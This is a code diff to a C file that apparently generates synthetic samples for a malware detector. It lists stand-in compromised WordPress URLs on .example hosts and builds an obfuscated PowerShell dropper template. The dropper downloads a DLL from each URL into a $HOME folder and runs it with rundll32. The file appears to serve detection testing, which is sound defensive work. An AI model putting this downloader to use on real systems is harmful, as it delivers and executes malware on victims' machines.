@@ -9,22 +9,16 @@
 /* Five of seven are WordPress paths, one is left by a WordPress migration plugin: the mix of the
  * script of 2020-12-30. */
 const char *const sek_case_wave1_urls[SEK_CASE_WAVE1_URLS] = {
-    "http://tsukimi-travel.example/wp-admin/lUZ4Ky/",
-    "http://hoshizora-cafe.example/wp-content/n9Ab/",
-    "https://kawasemi-print.example/wp-includes/Qx8j2/",
-    "http://mizuho-garden.example/wp-admin/Y7tR/",
-    "https://sakuragi-dental.example/wp-content/uN3fOe/",
-    "http://norikura-ski.example/dup-installer/a0Vk/",
+    "http://tsukimi-travel.example/wp-admin/lUZ4Ky/",     "http://hoshizora-cafe.example/wp-content/n9Ab/",
+    "https://kawasemi-print.example/wp-includes/Qx8j2/",  "http://mizuho-garden.example/wp-admin/Y7tR/",
+    "https://sakuragi-dental.example/wp-content/uN3fOe/", "http://norikura-ski.example/dup-installer/a0Vk/",
     "https://aoba-yoga.example/picture_library/bbCtlS/",
 };
 
 const char *const sek_case_wave2_urls[SEK_CASE_WAVE2_URLS] = {
-    "https://kaede-kogei.example/wp-admin/8VvJq3dmYzH/",
-    "http://tomoe-denki.example/css/Aqm31z0/",
-    "http://suzuran-nursery.example/wp-content/KzE7gTn/",
-    "https://minato-freight.example/cgi-bin/pW5bY/",
-    "http://yoshino-sports.example/wp-includes/hW4oNHu2/",
-    "https://asahi-kensetsu.example/images/Zq1CrbtV9/",
+    "https://kaede-kogei.example/wp-admin/8VvJq3dmYzH/",   "http://tomoe-denki.example/css/Aqm31z0/",
+    "http://suzuran-nursery.example/wp-content/KzE7gTn/",  "https://minato-freight.example/cgi-bin/pW5bY/",
+    "http://yoshino-sports.example/wp-includes/hW4oNHu2/", "https://asahi-kensetsu.example/images/Zq1CrbtV9/",
 };
 
 static char *base64_bytes(SekCaseArena *arena, const uint8_t *bytes, size_t n) {
@@ -99,32 +93,35 @@ static char *joined_urls(SekCaseArena *arena) {
     return all;
 }
 
+/* The script; <text> stands for that text as joined pieces, <@> for the addresses. */
+static const char wave1_pattern[] =
+    "  set-vaRiAblE 8ye ([tYPe](\"{1}{2}{0}{3}\"-F 'CT','sYStem.iO','.DiRE','ORY') ) ; "
+    "sv (\"plT\") ([TYpe](\"{3}{0}{4}{2}{1}\"-f 'm.nET.SeRVi','eR','INtMaNAg','sysTE','CEPO') ) ; "
+    "$ErrorActionPreference = <SilentlyContinue>;$Qv3kx0e=$B41R + [char](64) + $L59T;$X7_V=<Q5_N>; "
+    "( gEt-vaRIAbLE 8ye ).vaLUE::\"Cr`EAT`EDirE`CTOrY\"($HOME + ((<kQwJxk4jr_kQwDhuljgzkQw>)"
+    "-CrePLaCE 'kQw',[cHAr]92));$J2_C=<K38L>; "
+    "( vAriAbLE plt ).vaLuE::\"SecU`RITYp`ROtO`COL\" = <Tls12>;$T65H=<A1_Z>;"
+    "$Ggx4mvk = <D71J>;$W8_Q=<C96X>;$Zfy1h2d=$HOME+((<kQwJxk4jr_kQwDhuljgzkQw>)-rEplAce "
+    "'kQw',[cHAr]92)+$Ggx4mvk+<.dll>;$N07U=<V5_D>;"
+    "$Pd0vz1s=<@>.\"REp`LACe\"(<]e1r[S>,<http>).\"SPl`IT\"([cHaR]64);$O9_K=<R47B>;"
+    "foreach ($Mi7w4lq in $Pd0vz1s){try{(.(<New-Object>) sYsTEm.nEt.wEBcLIeNt)."
+    "\"DOw`NLO`AdfI`LE\"($Mi7w4lq, $Zfy1h2d);"
+    "$H24O=<G2_S>;If ((&(<Get-Item>) $Zfy1h2d).\"LEN`gTh\" -ge 37992) {&(<rundll32>) $Zfy1h2d,"
+    "(<Control_RunDLL>).\"TOst`RinG\"();$U3_R=<Y8_I>;break;$S1_A=<F3_T>}}catch{}}$E46Y=<K72P>";
+
 char *sek_case_wave1_script(SekCaseArena *arena) {
     SekCaseRng rng = sek_case_rng(20201222, "script");
-    const char *const folder = "\\Jxk4jr_\\Dhuljgz\\";
-    char *urls = pieces(arena, &rng, joined_urls(arena));
-    return sek_case_fmt(
-        arena,
-        "  set-vaRiAblE 8ye ([tYPe](\"{1}{2}{0}{3}\"-F 'CT','sYStem.iO','.DiRE','ORY') ) ; "
-        "sv (\"plT\") ([TYpe](\"{3}{0}{4}{2}{1}\"-f 'm.nET.SeRVi','eR','INtMaNAg','sysTE','CEPO') ) ; "
-        "$ErrorActionPreference = %s;$Qv3kx0e=$B41R + [char](64) + $L59T;$X7_V=%s; "
-        "( gEt-vaRIAbLE 8ye ).vaLUE::\"Cr`EAT`EDirE`CTOrY\"($HOME + ((%s)-CrePLaCE 'kQw',[cHAr]92));"
-        "$J2_C=%s; ( vAriAbLE plt ).vaLuE::\"SecU`RITYp`ROtO`COL\" = %s;$T65H=%s;"
-        "$Ggx4mvk = %s;$W8_Q=%s;$Zfy1h2d=$HOME+((%s)-rEplAce 'kQw',[cHAr]92)+$Ggx4mvk+%s;$N07U=%s;"
-        "$Pd0vz1s=%s.\"REp`LACe\"(%s,%s).\"SPl`IT\"([cHaR]64);$O9_K=%s;"
-        "foreach ($Mi7w4lq in $Pd0vz1s){try{(.(%s) sYsTEm.nEt.wEBcLIeNt).\"DOw`NLO`AdfI`LE\"($Mi7w4lq, $Zfy1h2d);"
-        "$H24O=%s;If ((&(%s) $Zfy1h2d).\"LEN`gTh\" -ge 37992) {&(%s) $Zfy1h2d,(%s).\"TOst`RinG\"();"
-        "$U3_R=%s;break;$S1_A=%s}}catch{}}$E46Y=%s",
-        pieces(arena, &rng, "SilentlyContinue"), pieces(arena, &rng, "Q5_N"),
-        pieces(arena, &rng, "kQwJxk4jr_kQwDhuljgzkQw"), pieces(arena, &rng, "K38L"),
-        pieces(arena, &rng, "Tls12"), pieces(arena, &rng, "A1_Z"), pieces(arena, &rng, "D71J"),
-        pieces(arena, &rng, "C96X"), pieces(arena, &rng, "kQwJxk4jr_kQwDhuljgzkQw"),
-        pieces(arena, &rng, ".dll"), pieces(arena, &rng, "V5_D"), urls,
-        pieces(arena, &rng, "]e1r[S"), pieces(arena, &rng, "http"), pieces(arena, &rng, "R47B"),
-        pieces(arena, &rng, "New-Object"), pieces(arena, &rng, "G2_S"),
-        pieces(arena, &rng, "Get-Item"), pieces(arena, &rng, "rundll32"),
-        pieces(arena, &rng, "Control_RunDLL"), pieces(arena, &rng, "Y8_I"),
-        pieces(arena, &rng, "F3_T"), pieces(arena, &rng, folder + 1));
+    char *out = sek_case_fmt(arena, "%s", "");
+    for (const char *p = wave1_pattern; *p;) {
+        size_t n = strcspn(p, "<");
+        const char *mark = p + n;
+        size_t inner = *mark ? strcspn(mark, ">") - 1 : 0;
+        const char *text = sek_case_fmt(arena, "%.*s", (int)inner, mark + (*mark == '<'));
+        const char *joined = strcmp(text, "@") == 0 ? joined_urls(arena) : text;
+        out = sek_case_fmt(arena, "%s%.*s%s", out, (int)n, p, *mark ? pieces(arena, &rng, joined) : "");
+        p = *mark ? mark + inner + 2 : mark;
+    }
+    return out;
 }
 
 char *sek_case_wave2_script(SekCaseArena *arena) {
